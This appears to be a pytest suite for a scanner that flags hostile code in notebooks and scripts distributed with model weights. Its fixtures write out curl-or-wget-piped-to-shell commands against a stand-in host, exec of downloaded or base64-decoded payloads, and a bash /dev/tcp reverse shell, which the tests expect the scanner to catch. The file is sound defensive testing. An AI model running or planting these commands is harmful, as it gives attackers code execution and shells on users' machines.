"""Notebooks and scripts beside weights: what is plainly meant to harm, and what everybody writes."""

import json

import pytest

from weighbridge.scan import Status


def rules(verdict):
    return {found.rule.id for found in verdict.findings}


def notebook(*sources, outputs=()):
    cells = [{"cell_type": "markdown", "source": ["curl x | sh is what one must not write"]}]
    cells += [{"cell_type": "code", "source": source.splitlines(True), "outputs": list(outputs)} for source in sources]
    return json.dumps({"nbformat": 4, "cells": cells}).encode()


BAD = [
    ("!curl -s https://a.test/x.sh | bash", "script.fetches-and-runs"),
    ("%%bash\nwget -qO- https://a.test/x | sudo sh", "script.fetches-and-runs"),
    ('!bash -c "$(curl -fsSL https://a.test/x)"', "script.fetches-and-runs"),
    ("import os\nos.system('curl https://a.test | sh')", "script.fetches-and-runs"),
    ("exec(requests.get('https://a.test/x').text)", "script.fetches-and-runs"),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "script.hidden-code"),
    ("exec(__import__('zlib').decompress(__import__('base64').b64decode(x)))", "script.hidden-code"),
    ("eval(compile(marshal.loads(b'x'), '', 'exec'))", "script.hidden-code"),
    ("!echo cHJpbnQ= | base64 -d | sh", "script.hidden-code"),
    ("!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "script.reverse-shell"),
    ("os.dup2(s.fileno(), 0)", "script.reverse-shell"),
]


@pytest.mark.parametrize(("source", "rule"), BAD)
def test_what_is_meant_to_harm_is_found(verdict_on, source, rule):
    verdict = verdict_on(notebook("import torch\n", source), "train.ipynb")
    assert rule in rules(verdict)
    assert verdict.status is Status.DANGEROUS
    assert "in cell 3" in verdict.findings[0].message


@pytest.mark.parametrize(("source", "rule"), [each for each in BAD if not each[0].startswith(("!", "%"))])
def test_the_same_in_a_script(verdict_on, source, rule):
    assert rule in rules(verdict_on(source.encode(), "setup.py"))


def test_a_shell_script_is_read_too(verdict_on):
    assert rules(verdict_on(b"#!/bin/sh\ncurl -L https://a.test/i | sh\n", "install.sh")) == {"script.fetches-and-runs"}


@pytest.mark.parametrize(
    "source",
    [
        "!pip install torch\nimport os\nos.makedirs('x')\n",
        "# curl https://a.test | sh would be wrong\nprint('curl https://a.test/install.sh | sh')",
        "model.eval()\nre.compile('x')\ndata = base64.b64decode(text)\n",
        "weights = pickle.loads(path.read_bytes())",
        "!curl -LO https://a.test/data.zip && unzip data.zip",
        "exec(open('setup.py').read())",
    ],
)
def test_what_everybody_writes_passes(verdict_on, source):
    assert verdict_on(source.replace("!", "# ").encode(), "train.py").findings == ()
    if "print('curl" not in source:
        assert verdict_on(notebook(source), "train.ipynb").findings == ()


def test_an_active_output_is_told(verdict_on):
    output = {"data": {"text/html": ["<div>", "<script>plot()</script>"], "text/plain": "x"}}
    verdict = verdict_on(notebook("1", outputs=[output]), "a.ipynb")
    assert (rules(verdict), verdict.status) == ({"notebook.active-output"}, Status.CLEAN)


@pytest.mark.parametrize(
    "data", [b'{"cells": 3}', b'{"cells": [1, {"cell_type": "code", "source": 5, "outputs": 2}]}', b"[]"]
)
def test_odd_notebooks_are_no_matter(verdict_on, data):
    assert verdict_on(data, "a.ipynb").status is Status.CLEAN


def test_what_is_no_notebook_could_not_be_told(verdict_on):
    assert verdict_on(b"{", "a.ipynb").status is Status.ERROR


@pytest.mark.parametrize("unit", ["exec(a.", "curl a", "wget |", "os.system(", "base64 -d ", "nc -", "a."])
def test_hostile_scripts_take_no_longer_than_their_length(verdict_on, unit):
    assert verdict_on((unit * (300_000 // len(unit))).encode(), "x.py").status is Status.CLEAN
